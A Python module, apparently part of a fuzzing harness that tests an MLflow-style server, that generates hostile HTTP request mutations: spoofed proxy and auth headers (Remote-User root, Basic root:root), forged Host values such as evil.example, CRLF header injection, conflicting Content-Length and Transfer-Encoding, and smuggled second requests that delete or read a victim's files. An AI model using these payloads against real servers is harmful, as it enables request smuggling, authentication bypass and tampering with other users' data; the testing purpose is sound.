"""The ways to spell headers and a body's length so that two readers read them differently, and what hides behind them."""

from __future__ import annotations

import gzip
import random
import zlib
from dataclasses import replace

from drafts import API, FILES, MEASURED, Cast, Change, Draft, with_header

HEADERS_OF_OTHERS = (
    ("X-HTTP-Method-Override", "DELETE"), ("X-HTTP-Method", "PUT"), ("X-Method-Override", "PATCH"), ("X-MLFLOW-WORKSPACE", "default"), ("X-MLFLOW-WORKSPACE", "team"),
    ("X_MLFLOW_WORKSPACE", "x"), ("X-MLFLOW_WORKSPACE", "x"), ("X-Forwarded-For", "127.0.0.1"), ("X_Forwarded_For", "127.0.0.1"), ("X-Forwarded-Host", "evil.example"),
    ("X-Forwarded-Prefix", "/x"), ("X-Forwarded-Proto", "https"), ("X-Forwarded-User", "root"), ("X-Forwarded-Method", "DELETE"), ("X-Forwarded-Uri", "/health"), ("Forwarded", "for=127.0.0.1"),
    ("X-Real-IP", "127.0.0.1"), ("Remote-User", "root"), ("REMOTE_USER", "root"), ("X-Script-Name", "/api"), ("SCRIPT_NAME", "/x"), ("PATH_INFO", "/health"), ("Cookie", "mlflow_user=root"),
    ("Cookie", "mlflow-request-header-Authorization=Basic%20cm9vdDpyb290"), ("Authorization", "Basic cm9vdDpyb290"), ("Authorization_", "x"), ("Proxy-Authorization", "Basic cm9vdDpyb290"),
    ("Origin", "null"), ("Origin", "https://evil.example"), ("Origin", "http://127.0.0.1"), ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Site", "cross-site"), ("Referer", "http://127.0.0.1/"),
    ("Access-Control-Request-Method", "DELETE"), ("Expect", "100-continue"), ("Expect", "200-ok"), ("Range", "bytes=0-40"), ("Range", "bytes=2-60,4-80"), ("Range", "bytes=0-"),
    ("If-None-Match", "*"), ("If-Modified-Since", "Thu, 01 Jan 2026 00:00:00 GMT"), ("If-Range", "x"), ("Accept", "text/html"), ("Accept-Encoding", "gzip"), ("TE", "trailers, deflate"),
    ("Trailer", "Content-Length"), ("Upgrade", "websocket"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__"), ("Connection", "Authorization"), ("Connection", "Content-Length, Content-Type"),
    ("Connection", "keep-alive, X-Forwarded-For"), ("Keep-Alive", "timeout=1"), ("Proxy-Connection", "close"), ("Max-Forwards", "0"), ("Via", "1.1 x"), ("Date", "x"), ("X-Request-Id", "a b"),
    ("traceparent", "00-x"), ("x-mlflow-experiment-id", "@"), ("X-MLflow-Authorization", "root"), ("X-Databricks-Org-Id", "1"), ("Content-Disposition", "attachment; filename=x"), ("Content-Range", "bytes 0-1/2"),
    ("Content-Location", "/x"), ("Content-MD5", "x"), ("Host_", "x"), ("Content_Length", "0"), ("Content_Type", "text/plain"), ("Transfer_Encoding", "chunked"), ("X-Original-Method", "DELETE"),
)  # fmt: skip


def header_of_others(draft: Draft, chance: random.Random, cast: Cast) -> Draft:
    """A header that means something to somebody."""
    name, value = chance.choice(HEADERS_OF_OTHERS)
    return with_header(draft, name, cast.victim.experiment if value == "@" else value, chance)


def header_of_address(draft: Draft, chance: random.Random, cast: Cast) -> Draft:
    """The victim's address in a header, and what is everybody's in the request line; or mine in the header."""
    name = chance.choice(
        (
            "X-Original-URL",
            "X-Rewrite-URL",
            "X-Forwarded-Uri",
            "X-Original-URI",
            "Request-Uri",
            "X-HTTP-DestinationURL",
            "Destination",
            "X-Accel-Redirect",
        )
    )
    target = draft.path + (f"?{draft.query_text()}" if draft.query_text() else "")
    if chance.random() < 0.5:
        return with_header(
            replace(draft, path=chance.choice(("/", "/health", "/version", API + "/registered-models/get"))), name, target, chance
        )
    return with_header(draft, name, "/health", chance)


def content_type(draft: Draft, chance: random.Random, _c: Cast) -> Draft:
    """What the body says it is, once or twice."""
    kinds = (
        "text/plain", "application/json; charset=utf-16", "Application/JSON", "", "application/json;", "application/json ;x=1", " application/json", "application/json, text/plain", "text/json",
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json\t", "application/json; charset=utf-7", "application/x-protobuf", "application/octet-stream",
        "application/json;charset=\udcff", "application/json; boundary=\"", "application/graphql", "application/cbor", "*/*",
    )  # fmt: skip
    for kind in chance.sample(kinds, chance.choice((1, 1, 1, 2))):
        draft = with_header(draft, chance.choice(("Content-Type", "Content-Type", "content-type", "Content_Type")), kind, chance)
    return draft


def hosts(draft: Draft, chance: random.Random, _c: Cast) -> Draft:
    """Another host, two, or none."""
    lines = chance.choice(
        (("Host: 127.0.0.1", "Host: evil.example"), ("Host: evil.example", "Host: 127.0.0.1"), ("Host: 127.0.0.1", "Host: 127.0.0.1"), (), ("Host:",), ("Host: evil.example",), ("Host: 10.evil.com",),
         ("Host: 127.0.0.1, evil.example",), ("Host: 127.0.0.1@evil.example",), ("Host: evil.example/x?",), ("Host: [::1",), ("Host: 127.0.0.1:x",), ("host: 127.0.0.1", "HOST: x"), ("Host: \udcff",))
    )  # fmt: skip
    return replace(
        draft, hosts=lines, alone=True, broken=draft.broken or len(lines) != 1 or not lines[0].startswith(("Host: 1", "Host: e"))
    )


def header_spelled(draft: Draft, chance: random.Random, _c: Cast) -> Draft:
    """A header line that is none, or one with odd blanks, folded or very long."""
    line, is_broken = chance.choice(
        ((("X-A", "a\r\n b"), True), (("X-A", "a\r\n\tb: c"), True), (("X A", "a"), True), (("X-A ", "a"), True), ((" X-A", "a"), True), (("X-A", "a\rb"), True), (("X-A", "a\nX-B: b"), True),
         (("X-A", "a\x00b"), True), (("", "a"), True), (("X-A", "\udcff\udcfe"), False), (("X-A", "\t a \t"), False), (("X-A", "a" * 9_000), False), (("X-A", "a" * 40_000), True),
         (("X-\udce9", "a"), True), (("Authorization ", "Basic cm9vdDpyb290"), True), (("\tAuthorization", "x"), True), (("X-A", "a\x0bb"), True), (("X(A)", "a"), True))
    )  # fmt: skip
    return replace(with_header(draft, *line, chance), alone=True, broken=draft.broken or is_broken)


def header_many(draft: Draft, chance: random.Random, _c: Cast) -> Draft:
    """Many headers: up to the limit, and over it."""
    count = chance.choice((60, 90, 110, 300))
    return replace(draft, headers=[*draft.headers, *((f"X-{i}", "a") for i in range(count))], alone=True, broken=draft.broken or count > 90)


HEADERS: tuple[Change, ...] = (
    header_of_others, header_of_others, header_of_others, header_of_others, header_of_address, content_type, content_type, hosts, header_spelled, header_many,
)  # fmt: skip


def compressed(draft: Draft, chance: random.Random, _c: Cast) -> Draft:
    """Said to be compressed, and perhaps it is."""
    body = draft.body_bytes()
    packed = gzip.compress(body, mtime=0)
    ways = (
        ("gzip", packed),
        ("gzip", body),
        ("deflate", zlib.compress(body)),
        ("br", body),
        ("identity", body),
        ("gzip, gzip", body),
        ("x-gzip", packed),
        ("", body),
    )
    name, packed = chance.choice(ways)
    return with_header(replace(draft, raw_body=packed), "Content-Encoding", name, chance)


def chunked(draft: Draft, chance: random.Random, _c: Cast) -> Draft:
    """In chunks, of which some are none."""

    def small(body: bytes) -> bytes:
        return b"".join(b"1\r\n%c\r\n" % letter for letter in body[:200]) + b"0\r\n\r\n"

    def end(body: bytes, last: bytes) -> bytes:
        return b"%x\r\n%s\r\n" % (len(body), body) + last

    ways: tuple[tuple[object, bool], ...] = (
        (None, False), (small, False), (lambda b: b"%x;x=1\r\n%s\r\n0\r\n\r\n" % (len(b), b), False), (lambda b: b"%08x\r\n%s\r\n0\r\n\r\n" % (len(b), b), False), (lambda b: end(b, b"0\r\nX-A: a\r\n\r\n"), False),
        (lambda b: end(b, b"0\r\nContent-Length: 3\r\n\r\n"), False), (lambda b: b"0x%x\r\n%s\r\n0\r\n\r\n" % (len(b), b), True), (lambda b: b"%x\n%s\n0\n\n" % (len(b), b), True), (lambda b: b"-1\r\n%s\r\n0\r\n\r\n" % b, True),
        (lambda b: b"%x \r\n%s\r\n0\r\n\r\n" % (len(b), b), True), (lambda b: b"ffffffffffffffff1\r\n%s" % b, True), (lambda b: b"%x\r\n%sXX0\r\n\r\n" % (len(b), b), True), (lambda b: b"%x;\n\r\n%s\r\n0\r\n\r\n" % (len(b), b), True),
        (lambda b: end(b, b"0\r\n"), True), (lambda b: end(b, b""), True), (lambda b: b"%x\r\n%s\r\n0\r\n\r\n" % (len(b) + 5, b), True),
    )  # fmt: skip
    way, is_broken = chance.choice(ways)
    return replace(
        draft,
        chunked=True,
        chunk=way if draft.body_bytes() or way is None else None,
        alone=True,
        broken=draft.broken or is_broken,
        starved=draft.starved or is_broken,
    )


def lengths(draft: Draft, chance: random.Random, _c: Cast) -> Draft:
    """Two lengths, a length beside chunks, or one that is written oddly."""
    size = len(draft.body_bytes())
    both = chance.choice(((size, size), (size, 0), (0, size), (size, max(0, size - 1)), (size, size + 9)))
    way = chance.randrange(6)
    if way == 0:
        headers = [("Content-Length", both[0]), ("Content-Length", both[1])]
    elif way == 1:
        headers = [("Content-Length", f"{both[0]}, {both[1]}")]
    elif way == 2:
        headers = [
            (
                "Content-Length",
                chance.choice(
                    (
                        f"+{size}",
                        f"0{size}",
                        f" {size} ",
                        f"{size}.0",
                        f"0x{size:x}",
                        "",
                        "-1",
                        f"{size};",
                        f"\t{size}",
                        "1" * 30,
                        f"{size}\x0b",
                    )
                ),
            )
        ]
    elif way == 3:
        headers = [("Content-Length", both[1])]
    else:
        coding = chance.choice(
            (
                "chunked",
                "Chunked",
                " chunked",
                "chunked, identity",
                "identity, chunked",
                "gzip, chunked",
                "xchunked",
                "chunked;x",
                "\x0bchunked",
                "chunked, chunked",
                "identity",
                "",
                "\tchunked",
            )
        )
        name = chance.choice(("Transfer-Encoding", "Transfer-Encoding", "transfer-encoding", "Transfer-Encoding ", "Transfer_Encoding"))
        headers = [("Content-Length", chance.choice((size, 0, 5, MEASURED))), (name, coding)]
        headers = chance.choice((headers, headers[::-1], headers[1:], [*headers, headers[1]]))
        return replace(
            draft, headers=[*draft.headers, *headers], measured=False, chunked=chance.random() < 0.6, alone=True, broken=True, starved=True
        )
    return replace(draft, headers=[*draft.headers, *headers], measured=False, alone=True, broken=True, starved=True)


def smuggled(draft: Draft, chance: random.Random, cast: Cast) -> Draft:
    """A second request, for what is the victim's, hidden in the body or behind it."""
    tag = b'{"name":"%s","key":"k","value":"v"}' % cast.victim.name.encode()
    inner = chance.choice(
        (b"DELETE %s%s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % (FILES.encode(), cast.victim.files.encode()),
         b"GET %s%s/note.txt HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % (FILES.encode(), cast.victim.files.encode()),
         b"POST %s/registered-models/set-tag HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (API.encode(), len(tag), tag))
    )  # fmt: skip
    way = chance.randrange(5)
    if way == 0:
        return replace(draft, tail=inner)
    if way == 1:
        return replace(draft, raw_body=b"0\r\n\r\n" + inner, alone=True)
    if way == 2:
        return replace(draft, raw_body=draft.body_bytes() + b"\r\n\r\n" + inner, alone=True)
    if way == 3:
        return replace(
            draft,
            raw_body=b"0\r\n\r\n" + inner,
            headers=[*draft.headers, ("Content-Length", MEASURED), ("Transfer-Encoding", "chunked")],
            measured=False,
            alone=True,
            broken=True,
            starved=True,
        )
    return replace(draft, raw_body=inner, chunked=True, alone=True)


def line_ends(draft: Draft, chance: random.Random, _c: Cast) -> Draft:
    """Lines that end in other ways."""
    return replace(draft, line_end=chance.choice(("\n", "\r\r\n", "\r", "\n\r")), alone=True, broken=True, starved=True)


FRAMES: tuple[Change, ...] = (compressed, compressed, chunked, chunked, chunked, lengths, lengths, smuggled, smuggled, line_ends)
